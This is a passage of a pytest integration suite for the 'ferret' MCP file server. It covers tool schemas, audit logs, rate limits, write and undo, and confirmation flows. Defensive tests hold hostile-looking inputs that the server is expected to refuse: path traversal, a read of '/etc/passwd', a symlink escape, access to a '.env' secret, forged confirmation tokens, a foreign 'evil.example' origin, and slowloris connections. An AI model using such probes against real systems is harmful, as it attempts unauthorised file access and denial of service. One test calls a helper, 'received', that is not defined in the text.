"""The real ferret binary driven by the official MCP Python SDK (PyPI `mcp`), over stdio
(protocol 2026-07-28 and the legacy 2025-11-25 handshake) and streamable HTTP."""

import hashlib
import json
import logging
import os
import re
import signal
import subprocess
import time
from pathlib import Path

import anyio
import httpx2
import jsonschema
import pytest
from mcp import Client, StdioServerParameters
from mcp.client.streamable_http import streamable_http_client

REPO = Path(__file__).resolve().parents[2]
FERRET = os.environ.get("FERRET_BIN", str(REPO / "target" / "release" / "ferret"))
VERSION = re.search(r'^version = "(.+)"', (REPO / "Cargo.toml").read_text(), re.M).group(1)
MODES = ["auto", "legacy"]  # auto negotiates 2026-07-28 through server/discover
DEFAULT_TOOLS = ["read_file", "read_files", "list_directory", "file_exists", "get_file_info", "grep", "glob"]


@pytest.fixture
def anyio_backend():
    return "asyncio"


@pytest.fixture
def ws(tmp_path):
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "a.txt").write_text("hello\nworld\n")
    (root / "src" / "main.rs").write_text("fn main() {\n    // TODO: one\n}\n")
    (root / ".env").write_text("TOKEN=secret\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("TODO outside\n")
    (root / "out").symlink_to(outside)
    return root


@pytest.fixture
def big(tmp_path):
    """A tree a grep takes a good while over: 2000 files of 150 KB."""
    root = tmp_path / "big"
    line = ("lorem ipsum dolor sit amet consectetur adipiscing elit " * 2 + "\n").encode()
    body = line * (150_000 // len(line))
    for d in range(20):
        sub = root / f"d{d:02}"
        sub.mkdir(parents=True)
        for i in range(100):
            (sub / f"f{i:03}.txt").write_bytes(body)
    (root / "small.txt").write_text("x\n")
    return root


# No digits in the big tree, and no literal to skip to: every byte is scanned (~0.3 s).
SLOW = r"\w{3,}\s+\w{3,}\s+\d+"


def stdio(root, *extra, mode="auto", env=None):
    params = StdioServerParameters(command=FERRET, args=["--root", str(root), *extra, "serve"], env=env)
    return Client(params, mode=mode)


def text(result):
    return "".join(c.text for c in result.content if getattr(c, "type", "") == "text")


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_handshake_tools_and_schemas(ws, mode):
    async with stdio(ws, mode=mode) as c:
        assert c.server_info.name == "ferret"
        assert c.server_info.version == VERSION
        assert c.protocol_version == ("2026-07-28" if mode != "legacy" else "2025-11-25")
        assert str(ws.resolve()) in c.instructions
        assert "glob" in c.instructions and "grep" in c.instructions
        tools = (await c.list_tools()).tools
        assert [t.name for t in tools] == DEFAULT_TOOLS
        for t in tools:
            assert t.title and len(t.description) > 40
            assert t.input_schema["type"] == "object"
            assert t.output_schema["type"] == "object"
            assert t.annotations.read_only_hint is True
            # destructiveHint means something only when readOnlyHint is false (the spec):
            # not sent for read-only tools (issue 26's token diet)
            assert t.annotations.destructive_hint in (None, False)
            assert t.annotations.open_world_hint is False
            jsonschema.Draft202012Validator.check_schema(t.input_schema)
            jsonschema.Draft202012Validator.check_schema(t.output_schema)


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_prompts_are_declared_and_served(ws, mode):
    """What the server answers, it declares (the conformance suite's discover check)."""
    async with stdio(ws, mode=mode) as c:
        assert c.server_capabilities.prompts is not None
        assert c.server_capabilities.resources is None
        prompts = (await c.list_prompts()).prompts
        assert [p.name for p in prompts] == ["ferret"]
        got = await c.get_prompt("ferret")
        assert got.messages[0].role == "user"
        assert got.messages[0].content.text == c.instructions
        with pytest.raises(Exception, match="no prompt named"):
            await c.get_prompt("nope")
        # and the server keeps serving
        assert (await c.call_tool("file_exists", {"path": "a.txt"})).structured_content["exists"]


@pytest.mark.anyio
async def test_a_pinned_2026_client_needs_no_handshake(ws):
    """A client that already knows the server pins 2026-07-28: no initialize, no discover."""
    async with stdio(ws, mode="2026-07-28") as c:
        assert c.protocol_version == "2026-07-28"
        assert [t.name for t in (await c.list_tools()).tools] == DEFAULT_TOOLS
        r = await c.call_tool("read_file", {"path": "a.txt"})
        assert r.structured_content["content"] == "hello\nworld\n"


CALLS = {
    "read_file": {"path": "a.txt"},
    "read_files": {"paths": ["a.txt", "src/*.rs", ".env", "missing.txt"]},
    "list_directory": {"path": ".", "recursive": True},
    "file_exists": {"path": "src/main.rs"},
    "get_file_info": {"path": "a.txt"},
    "grep": {"pattern": "TODO", "output_mode": "content", "context": 1},
    "glob": {"pattern": "*.rs"},
    "search_files": {"pattern": "TODO"},
    "file_search": {"query": "todo"},
}


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_every_tool_result_matches_its_output_schema(ws, mode):
    async with stdio(ws, "--set", "tools=" + ",".join(CALLS), mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        assert set(tools) == set(CALLS)
        for name, args in CALLS.items():
            r = await c.call_tool(name, args)
            assert not r.is_error, (name, text(r))
            jsonschema.validate(r.structured_content, tools[name].output_schema)
            assert text(r), name
        r = await c.call_tool("read_file", {"path": "a.txt"})
        assert r.structured_content["content"] == "hello\nworld\n"
        version = r.structured_content["version"]
        assert text(r) == f"     1\thello\n     2\tworld\n[version {version}]\n"
        r = await c.call_tool("grep", {"pattern": "TODO"})
        # The index may or may not be ready yet: the answer is the same either way.
    assert r.structured_content.pop("engine") in ("index", "scan")
    assert r.structured_content == {"files": [{"path": "src/main.rs"}], "file_count": 1, "truncated": False}


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_errors_are_tool_results_and_the_server_keeps_serving(ws, mode):
    async with stdio(ws, mode=mode) as c:
        cases = [
            ("read_file", {"path": "../x"}, "PATH_TRAVERSAL"),
            ("read_file", {"path": "/etc/passwd"}, "PATH_ESCAPE"),
            ("read_file", {"path": "out/secret.txt"}, "PATH_ESCAPE"),
            ("read_file", {"path": ".env"}, "DENIED_PATTERN"),
            ("read_file", {"path": "missing.txt"}, "NOT_FOUND"),
            ("read_file", {"path": "a.txt", "bogus": 1}, "INVALID_ARGUMENT"),
            ("grep", {"pattern": "a(b"}, "INVALID_REGEX"),
            ("glob", {"pattern": "[x"}, "INVALID_GLOB"),
            ("search_files", {"pattern": "x"}, "UNKNOWN_TOOL"),
        ]
        for name, args, code in cases:
            r = await c.call_tool(name, args)
            assert r.is_error, (name, args)
            assert text(r).startswith(code + ":"), (name, text(r))
        assert "Hint:" in text(await c.call_tool("grep", {"pattern": "a(b"}))
        r = await c.call_tool("grep", {"pattern": "TODO", "include_hidden": True})
        assert r.structured_content["files"] == [{"path": "src/main.rs"}]


@pytest.mark.anyio
async def test_progress_notifications(big):
    seen = []

    async def on_progress(progress, total, message):
        seen.append((progress, message))

    async with stdio(big) as c:
        r = await c.call_tool("grep", {"pattern": "lorem", "output_mode": "count"}, progress_callback=on_progress)
        assert not r.is_error, text(r)
        assert r.structured_content["file_count"] == 2000
    assert seen, "no progress notification arrived"
    assert all(p > 0 for p, _ in seen)
    assert "files searched" in seen[0][1]


@pytest.mark.anyio
async def test_cancelling_a_grep_stops_it_and_the_server_keeps_serving(big, tmp_path):
    audit = tmp_path / "audit.jsonl"
    async with stdio(big, "--audit-log", str(audit)) as c:
        started = time.monotonic()
        with anyio.move_on_after(0.05):  # the search takes ~0.3 s on a 2-core machine
            await c.call_tool("grep", {"pattern": SLOW, "output_mode": "count"})
        assert time.monotonic() - started < 1.0
        t0 = time.monotonic()
        r = await c.call_tool("file_exists", {"path": "small.txt"})
        assert r.structured_content["exists"] is True
        assert time.monotonic() - t0 < 1.0
        # the walk was stopped, not finished
        for _ in range(50):
            entries = [json.loads(line) for line in audit.read_text().splitlines()]
            greps = [e for e in entries if e["operation"] == "grep"]
            if greps:
                break
            await anyio.sleep(0.05)
        assert greps and greps[0]["code"] == "CANCELLED", greps


@pytest.mark.anyio
async def test_a_slow_search_does_not_block_other_calls(big):
    async with stdio(big) as c:
        done = []

        async def slow():
            await c.call_tool("grep", {"pattern": SLOW, "output_mode": "count"})
            done.append("grep")

        async def quick():
            await anyio.sleep(0.05)
            r = await c.call_tool("file_exists", {"path": "small.txt"})
            assert r.structured_content["exists"]
            done.append("exists")

        async with anyio.create_task_group() as tg:
            tg.start_soon(slow)
            tg.start_soon(quick)
        assert done == ["exists", "grep"]


@pytest.mark.anyio
async def test_sessions_and_agents_reach_the_audit_log(ws, tmp_path):
    audit = tmp_path / "audit.jsonl"
    async with stdio(ws, "--audit-log", str(audit)) as c:
        await c.call_tool("read_file", {"path": "a.txt"})
        await c.call_tool("read_file", {"path": ".env"})
    entries = [json.loads(line) for line in audit.read_text().splitlines()]
    assert [e["result"] for e in entries] == ["success", "denied"]
    assert entries[0]["agent_id"] == "mcp"  # the Python SDK's client name
    assert entries[0]["session_id"] == entries[1]["session_id"]
    assert entries[0]["bytes_read"] == 12
    # what went on the wire: the numbered text and the structured result, both counted
    assert entries[0]["bytes_sent"] > 2 * 12


@pytest.mark.anyio
async def test_round_limits_apply_per_session(ws):
    async with stdio(ws, "--set", "max_requests_per_round=3") as c:
        for _ in range(3):
            assert not (await c.call_tool("file_exists", {"path": "a.txt"})).is_error
        r = await c.call_tool("file_exists", {"path": "a.txt"})
        assert r.is_error and text(r).startswith("RATE_LIMIT_EXCEEDED")


@pytest.mark.anyio
async def test_write_tools_are_listed_only_when_writes_are_on(ws, tmp_path):
    async with stdio(ws) as c:
        names = [t.name for t in (await c.list_tools()).tools]
        assert "edit" not in names and "undo" not in names
        r = await c.call_tool("edit", {"path": "a.txt", "old_string": "hello", "new_string": "bye"})
        assert r.is_error and text(r).startswith("UNKNOWN_TOOL")
        assert "switched off" in text(r)
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "state")) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        # the spec's defaults (not read-only, destructive) are not repeated on the wire
        assert tools["edit"].annotations.destructive_hint in (None, True)
        assert tools["edit"].annotations.read_only_hint in (None, False)
        r = await c.call_tool("edit", {"path": "a.txt", "old_string": "hello", "new_string": "bye"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["edit"].output_schema)
        assert (ws / "a.txt").read_text() == "bye\nworld\n"
        assert "+bye" in r.structured_content["diff"]
        r = await c.call_tool("undo", {})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["undo"].output_schema)
        assert (ws / "a.txt").read_text() == "hello\nworld\n"


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_apply_patch_is_all_or_nothing_and_one_undo_over_mcp(ws, tmp_path, mode):
    (ws / "b.txt").write_text("bee\n")
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "state"), mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        bad = "*** Begin Patch\n*** Update File: a.txt\n@@\n-hello\n+HELLO\n*** Update File: b.txt\n@@\n-nope\n+x\n*** End Patch\n"
        r = await c.call_tool("apply_patch", {"patch": bad})
        assert r.is_error and text(r).startswith("NO_MATCH") and "change 2 (b.txt), hunk 1" in text(r)
        assert (ws / "a.txt").read_text() == "hello\nworld\n"
        r = await c.call_tool("apply_patch", {"changes": [
            {"path": "a.txt", "edits": [{"old_string": "hello", "new_string": "HELLO"}]},
            {"path": "b.txt", "move_to": "moved/b.txt"},
            {"path": "c.txt", "create": "sea\n"},
        ]})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["apply_patch"].output_schema)
        assert (ws / "a.txt").read_text() == "HELLO\nworld\n"
        assert (ws / "moved" / "b.txt").read_text() == "bee\n" and not (ws / "b.txt").exists()
        r = await c.call_tool("undo", {})
        assert not r.is_error, text(r)
        assert (ws / "a.txt").read_text() == "hello\nworld\n"
        assert (ws / "b.txt").read_text() == "bee\n" and not (ws / "c.txt").exists()


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_write_file_and_the_stale_write_guard_over_mcp(ws, tmp_path, mode):
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "state"), mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        assert "write_file" in tools and "expected_version" in tools["edit"].input_schema["properties"]
        r = await c.call_tool("write_file", {"path": "pkg/new.py", "content": "x = 1\n"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["write_file"].output_schema)
        assert (ws / "pkg" / "new.py").read_text() == "x = 1\n"
        r = await c.call_tool("write_file", {"path": "pkg/new.py", "content": "y\n"})
        assert r.is_error and text(r).startswith("ALREADY_EXISTS")

        read = await c.call_tool("read_file", {"path": "a.txt"})
        version = read.structured_content["version"]
        assert f"[version {version}]" in text(read), "the model reading only text sees it too"
        (ws / "a.txt").write_text("hello\nthere\n")
        r = await c.call_tool(
            "edit", {"path": "a.txt", "old_string": "hello", "new_string": "bye", "expected_version": version}
        )
        assert r.is_error and text(r).startswith("CONFLICT")
        assert "-world" in text(r) and "+there" in text(r), "the diff shows what changed since the read"

        # an edit that needs a forgiving rule says which
        (ws / "b.py").write_text("def f():\n    return 1   \n")
        r = await c.call_tool("edit", {"path": "b.py", "old_string": "    return 1\n", "new_string": "    return 2\n"})
        assert not r.is_error, text(r)
        assert r.structured_content["match"] == "trailing_whitespace"

        r = await c.call_tool("undo", {})
        r = await c.call_tool("move", {"source": "pkg/new.py", "destination": "lib/new.py"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["move"].output_schema)
        assert (ws / "lib" / "new.py").exists() and not (ws / "pkg" / "new.py").exists()
        r = await c.call_tool("undo", {})
        assert not r.is_error, text(r)
        assert (ws / "pkg" / "new.py").exists()
        r = await c.call_tool("undo", {})
        assert not r.is_error, text(r)
        assert not (ws / "pkg" / "new.py").exists()


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("answer", ["accept", "decline"])
async def test_confirmations_are_asked_through_elicitation(ws, tmp_path, mode, answer):
    """A permanent delete needs the user's yes: asked with elicitation/create on a 2025-11-25
    session, with an input-required result on 2026-07-28."""
    import mcp_types as types

    asked = []

    async def elicit(_context, params):
        asked.append(params.message)
        return types.ElicitResult(action=answer, content={"confirm": True} if answer == "accept" else None)

    params = StdioServerParameters(
        command=FERRET, args=["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"), "serve"])
    async with Client(params, mode=mode, elicitation_callback=elicit) as c:
        r = await c.call_tool("file_delete", {"path": "a.txt", "permanent": True})
        assert asked and "permanently deleting a.txt" in asked[0]
        if answer == "accept":
            assert not r.is_error, text(r)
            assert not (ws / "a.txt").exists()
        else:
            assert r.is_error and text(r).startswith("CONFIRMATION_REQUIRED")
            assert (ws / "a.txt").exists()


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("rewrite", [False, True])
async def test_a_file_rewritten_while_its_move_is_asked_about_is_not_moved(ws, tmp_path, mode, rewrite):
    """The call made again after the user's yes (2026-07-28: the client resends it) checks
    the file is as it was when asked: rewritten meanwhile, it is refused CONFLICT."""
    import mcp_types as types

    (ws / "ci.yml").write_text("on: push\n")
    (ws / ".github").mkdir()

    async def elicit(_context, params):
        if rewrite:
            (ws / "ci.yml").write_text("on: push\njobs: {evil: 1}\n")
        return types.ElicitResult(action="accept", content={"confirm": True})

    params = StdioServerParameters(
        command=FERRET, args=["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"), "serve"])
    async with Client(params, mode=mode, elicitation_callback=elicit) as c:
        r = await c.call_tool("move", {"source": "ci.yml", "destination": ".github/ci.yml"})
        if rewrite:
            assert r.is_error and text(r).startswith("CONFLICT"), text(r)
            assert not (ws / ".github" / "ci.yml").exists()
        else:
            assert not r.is_error, text(r)
            assert (ws / ".github" / "ci.yml").read_text() == "on: push\n"


@pytest.mark.anyio
async def test_prefilled_or_forged_confirmations_confirm_nothing(ws, tmp_path):
    """On 2026-07-28 a confirmation travels in the retried call. Only an answer to a
    question this server asked counts: no state, a forged state, a state asked for another
    call, or one already used, confirms nothing."""
    import mcp_types as types

    yes = {"ferret_confirm": types.ElicitResult(action="accept", content={"confirm": True})}

    async def never(_context, params):
        raise AssertionError("driven by hand")

    params = StdioServerParameters(
        command=FERRET, args=["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"), "serve"])
    async with Client(params, mode="auto", elicitation_callback=never) as c:
        assert c.protocol_version == "2026-07-28"

        async def delete(path, responses=None, state=None):
            return await c.session.call_tool(
                "file_delete", {"path": path, "permanent": True},
                input_responses=responses, request_state=state, allow_input_required=True)

        for state in (None, "forged", "0" * 32):
            r = await delete("a.txt", yes, state)
            assert isinstance(r, types.InputRequiredResult), r
            assert (ws / "a.txt").exists()
        asked = await delete("a.txt")
        assert isinstance(asked, types.InputRequiredResult) and asked.request_state
        # the state of a question about a.txt does not confirm deleting src/main.rs
        r = await delete("src/main.rs", yes, asked.request_state)
        assert isinstance(r, types.InputRequiredResult)
        assert (ws / "src" / "main.rs").exists()
        # and it was used up by that attempt
        r = await delete("a.txt", yes, asked.request_state)
        assert isinstance(r, types.InputRequiredResult)
        assert (ws / "a.txt").exists()
        # a real answer to a real question works
        asked = await delete("a.txt")
        r = await delete("a.txt", yes, asked.request_state)
        assert isinstance(r, types.CallToolResult) and not r.is_error, r
        assert not (ws / "a.txt").exists()


@pytest.mark.anyio
async def test_without_elicitation_confirmations_fail_with_a_hint(ws, tmp_path):
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "s")) as c:
        r = await c.call_tool("file_delete", {"path": "a.txt", "permanent": True})
        assert r.is_error and text(r).startswith("CONFIRMATION_REQUIRED")
        # the setting that exists (there is no --allow-permanent-delete flag), and the trash
        assert "allow_permanent_delete" in text(r) and "trash" in text(r)
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "s"), "--set", "allow_permanent_delete=true") as c:
        r = await c.call_tool("file_delete", {"path": "a.txt", "permanent": True})
        assert not r.is_error, text(r)
    assert not (ws / "a.txt").exists()


def roots_client(ws, uris, mode="legacy"):
    import mcp_types as types

    async def list_roots(_context):
        return types.ListRootsResult(roots=[types.Root(uri=u) for u in uris])

    params = StdioServerParameters(command=FERRET, args=["--root", str(ws), "serve"])
    return Client(params, mode=mode, list_roots_callback=list_roots)


@pytest.mark.anyio
async def test_client_roots_narrow_but_never_widen(ws, tmp_path):
    async with roots_client(ws, [(ws / "src").as_uri(), tmp_path.as_uri() + "/outside"]) as c:
        r = await c.call_tool("read_file", {"path": "src/main.rs"})
        assert not r.is_error, text(r)
        r = await c.call_tool("read_file", {"path": "a.txt"})
        assert r.is_error and text(r).startswith("PATH_ESCAPE"), text(r)
        assert "outside the roots this client shared" in text(r)
        # a search with no path covers only the shared part
        r = await c.call_tool("grep", {"pattern": "hello|TODO"})
        assert r.structured_content["files"] == [{"path": "src/main.rs"}]
        # the client's other root lies outside the workspace: never served
        r = await c.call_tool("read_file", {"path": str(tmp_path / "outside" / "secret.txt")})
        assert r.is_error and text(r).startswith("PATH_ESCAPE")


@pytest.mark.anyio
async def test_client_root_containing_the_workspace_narrows_nothing(ws, tmp_path):
    async with roots_client(ws, [tmp_path.as_uri()]) as c:
        r = await c.call_tool("read_file", {"path": "a.txt"})
        assert not r.is_error, text(r)
        r = await c.call_tool("read_file", {"path": "out/secret.txt"})
        assert r.is_error and text(r).startswith("PATH_ESCAPE")


@pytest.mark.anyio
async def test_a_2026_session_with_a_roots_callback_does_not_fail(ws):
    async with roots_client(ws, [(ws / "src").as_uri()], mode="auto") as c:
        assert c.protocol_version == "2026-07-28"
        r = await c.call_tool("read_file", {"path": "a.txt"})
        assert not r.is_error, text(r)


# --- HTTP -------------------------------------------------------------------------------

TOKEN = "s3cret-token"


@pytest.fixture
def http_server(ws):
    proc = subprocess.Popen(
        [FERRET, "--root", str(ws), "serve", "--http", "127.0.0.1:0", "--token", TOKEN],
        stderr=subprocess.PIPE,
        text=True,
    )
    url = None
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        line = proc.stderr.readline()
        m = re.search(r"serving MCP at (http://\S+)", line)
        if m:
            url = m.group(1)
            break
    assert url, "server did not start"
    yield url
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=10) == 0, "no graceful shutdown on SIGTERM"


def http_client(url, token=TOKEN, mode="auto"):
    hc = httpx2.AsyncClient(headers={"Authorization": f"Bearer {token}"}, timeout=30)
    return Client(streamable_http_client(url, http_client=hc), mode=mode)


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_http_serves_the_tools(http_server, mode):
    async with http_client(http_server, mode=mode) as c:
        assert c.server_info.name == "ferret"
        tools = (await c.list_tools()).tools
        assert [t.name for t in tools] == DEFAULT_TOOLS
        r = await c.call_tool("read_file", {"path": "a.txt"})
        assert r.structured_content["content"] == "hello\nworld\n"
        jsonschema.validate(r.structured_content, tools[0].output_schema)
        r = await c.call_tool("read_file", {"path": ".env"})
        assert r.is_error and text(r).startswith("DENIED_PATTERN")


@pytest.mark.anyio
async def test_http_many_sessions_at_once(http_server):
    results = []

    async def one(i):
        async with http_client(http_server, mode="legacy" if i % 2 else "auto") as c:
            r = await c.call_tool("grep", {"pattern": "TODO"})
            results.append(r.structured_content["file_count"])

    async with anyio.create_task_group() as tg:
        for i in range(8):
            tg.start_soon(one, i)
    assert results == [1] * 8


@pytest.mark.anyio
async def test_http_a_session_the_sdk_closes_ends_without_a_warning(http_server, caplog):
    # The SDK ends a 2025-11-25 session with DELETE and warns on any answer but 200/204
    # (rmcp says 202): every closed session logged "Session termination failed".
    caplog.set_level(logging.DEBUG)
    async with http_client(http_server, mode="legacy") as c:
        r = await c.call_tool("read_file", {"path": "a.txt"})
        assert not r.is_error
    assert "Session termination failed" not in caplog.text, caplog.text


def start_http(ws, *extra, serve=()):
    proc = subprocess.Popen(
        [FERRET, "--root", str(ws), *extra, "serve", "--http", "127.0.0.1:0", "--token", TOKEN, *serve],
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        m = re.search(r"serving MCP at (http://\S+)", proc.stderr.readline())
        if m:
            return proc, m.group(1)
    proc.kill()
    raise AssertionError("server did not start")


@pytest.mark.anyio
async def test_http_request_budget_is_shared_by_stateless_requests_and_sessions(ws):
    """Every 2026-07-28 request is a fresh server handler, and a legacy client can open
    any number of sessions: the round budget follows the client, not the connection."""
    # Five calls and the opening of the two legacy sessions (i = 2 and 5; an initialize
    # is a request, issue 25).
    proc, url = start_http(ws, "--set", "max_requests_per_round=7")
    try:
        outcomes = []
        for i in range(8):
            async with http_client(url, mode="legacy" if i % 3 == 2 else "auto") as c:
                r = await c.call_tool("file_exists", {"path": "a.txt"})
                outcomes.append(r.is_error and text(r).startswith("RATE_LIMIT_EXCEEDED"))
        assert outcomes == [False] * 5 + [True] * 3, outcomes
    finally:
        proc.terminate()
        proc.wait(timeout=10)


@pytest.mark.anyio
async def test_http_byte_budget_counts_every_byte_sent(ws):
    """Every answer counts, once, for what a model receives of it: the larger of its text
    and its structured result, which say the same (issue 26: charging their sum spent a
    budget at about half of what it gave)."""
    (ws / "big.txt").write_text(("x" * 99 + "\n") * 100)  # 10,000 bytes
    budget = 50_000
    proc, url = start_http(ws, "--set", f"max_bytes_per_round={budget}")
    try:
        sent, refused, one = 0, False, 0
        async with http_client(url) as c:
            for _ in range(8):
                r = await c.call_tool("read_file", {"path": "big.txt"})
                if r.is_error:
                    assert text(r).startswith("ROUND_LIMIT_EXCEEDED"), text(r)
                    refused = True
                    break
                one = received(r)
                sent += one
        assert refused, "the budget was never reached"
        assert sent <= budget, f"{sent} bytes sent past a {budget}-byte budget"
        # Refused only when the next answer would not fit: the budget went on content.
        assert sent + one > budget, f"refused at {sent} of {budget} bytes"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


INIT = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "initialize",
    "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "raw", "version": "0"}},
}
HEADERS = {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}


def test_http_wrong_or_missing_token_is_401(http_server):
    for auth in ({}, {"Authorization": "Bearer nope"}, {"Authorization": "Basic " + TOKEN}):
        r = httpx2.post(http_server, json=INIT, headers={**HEADERS, **auth})
        assert r.status_code == 401, (auth, r.status_code)
        assert r.headers["www-authenticate"] == "Bearer"
    r = httpx2.post(http_server, json=INIT, headers={**HEADERS, "Authorization": f"Bearer {TOKEN}"})
    assert r.status_code == 200


def test_http_foreign_origin_or_host_is_403(http_server):
    auth = {"Authorization": f"Bearer {TOKEN}"}
    r = httpx2.post(http_server, json=INIT, headers={**HEADERS, **auth, "Origin": "http://evil.example"})
    assert r.status_code == 403
    r = httpx2.post(http_server, json=INIT, headers={**HEADERS, **auth, "Host": "evil.example"})
    assert r.status_code == 403
    port = http_server.split(":")[2].split("/")[0]
    r = httpx2.post(http_server, json=INIT, headers={**HEADERS, **auth, "Origin": f"http://localhost:{port}"})
    assert r.status_code == 200


def test_http_request_body_limit(ws):
    proc = subprocess.Popen(
        [FERRET, "--root", str(ws), "serve", "--http", "127.0.0.1:0", "--max-body", "1000"],
        stderr=subprocess.PIPE, text=True)
    try:
        # The first lines may be the index's progress: read until the address.
        url = None
        while url is None:
            line = proc.stderr.readline()
            assert line, "server did not start"
            m = re.search(r"serving MCP at (http://\S+)", line)
            url = m and m.group(1)
        big = {**INIT, "params": {**INIT["params"], "padding": "x" * 5000}}
        assert httpx2.post(url, json=big, headers=HEADERS).status_code == 413
        assert httpx2.post(url, json=INIT, headers=HEADERS).status_code == 200
    finally:
        proc.send_signal(signal.SIGINT)
        assert proc.wait(timeout=10) == 0


AUTH = {"Authorization": f"Bearer {TOKEN}"}


def stop(proc):
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=15) == 0, "no graceful shutdown on SIGTERM"


def audit_records(path):
    return [json.loads(line) for line in Path(path).read_text().splitlines() if line.strip()]


def host_port(url):
    hp = url.split("//")[1].split("/")[0]
    return hp.split(":")[0], int(hp.split(":")[1])


def closed_within(sock, seconds):
    """Whether the server closes `sock` within `seconds` (reads until EOF or timeout)."""
    import socket
    sock.settimeout(0.2)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            if sock.recv(65536) == b"":
                return True
        except socket.timeout:
            continue
        except OSError:
            return True
    return False


def test_http_slow_headers_slow_bodies_and_idle_connections_are_cut_off(ws):
    """Slowloris: a client trickling its headers, or its body, or sending nothing at all,
    holds a connection for the read timeout at most."""
    import socket
    proc, url = start_http(ws, serve=("--read-timeout", "1"))
    try:
        host, port = host_port(url)
        idle = socket.create_connection((host, port))
        slow = socket.create_connection((host, port))
        slow.sendall(b"POST /mcp HTTP/1.1\r\nHost: localhost\r\n")
        body = socket.create_connection((host, port))
        body.sendall(("POST /mcp HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n"
                      "Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
                      "Content-Length: 500\r\n\r\n{\"jsonrpc\"" % TOKEN).encode())
        started = time.monotonic()
        for s in (idle, slow):
            assert closed_within(s, 5), "a connection outlived the read timeout"
        # The slow body gets a 408 (then the connection closes).
        body.settimeout(5)
        answer = body.recv(4096)
        assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
        assert time.monotonic() - started < 5
        # The server still serves.
        assert httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH}).status_code == 200
    finally:
        stop(proc)


def test_http_connections_over_the_cap_are_closed_and_audited(ws, tmp_path):
    """At the connection cap a new connection is not refused while older ones do nothing:
    the oldest idle one is closed (one peer holds at most half the cap idle), the new one
    served, and every closing audited. (Refusal when every connection is answering a
    request: mcp::http::tests::at_the_cap_idle_connections_go_first_then_streams_and_busy_ones_never.)"""
    import socket
    audit = tmp_path / "audit.jsonl"
    proc, url = start_http(ws, "--audit-log", str(audit), serve=("--max-connections", "4", "--read-timeout", "30"))
    try:
        host, port = host_port(url)
        held = [socket.create_connection((host, port)) for _ in range(4)]
        time.sleep(0.3)
        extra = socket.create_connection((host, port))
        assert closed_within(held[0], 3), "the oldest idle connection was kept past the cap"
        assert sum(closed_within(s, 0.5) for s in held) >= 3
        body = json.dumps(INIT).encode()
        extra.sendall((f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {TOKEN}\r\n"
                       "Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
                       f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
        extra.settimeout(5)
        assert extra.recv(4096).startswith(b"HTTP/1.1 200"), "the newest connection was not served"
        for s in held + [extra]:
            s.close()
        assert httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH}).status_code == 200
    finally:
        stop(proc)
    codes = [r.get("code") for r in audit_records(audit)]
    assert "CONNECTION_EVICTED" in codes, codes


def test_http_sessions_over_the_cap_make_room_from_the_client_holding_the_most(ws):
    """At the session cap a new initialize is not refused while a session is idle: the
    client holding the most (here the only one) gives up its least recently used (issue
    25; 503 is left for a table whose every session has a request under way)."""
    proc, url = start_http(ws, serve=("--max-sessions", "2"))
    try:
        ids = []
        for _ in range(3):
            r = httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH})
            assert r.status_code == 200, r.status_code
            ids.append(r.headers["mcp-session-id"])
        ping = {"jsonrpc": "2.0", "id": 5, "method": "ping"}
        def alive(sid):
            h = {**HEADERS, **AUTH, "Mcp-Session-Id": sid, "MCP-Protocol-Version": "2025-11-25"}
            return httpx2.post(url, json=ping, headers=h).status_code == 200
        assert [alive(i) for i in ids] == [False, True, True]
        # Closing one makes room without closing another.
        r = httpx2.delete(url, headers={**HEADERS, **AUTH, "Mcp-Session-Id": ids[1]})
        assert r.status_code in (200, 204), r.status_code
        r = httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH})
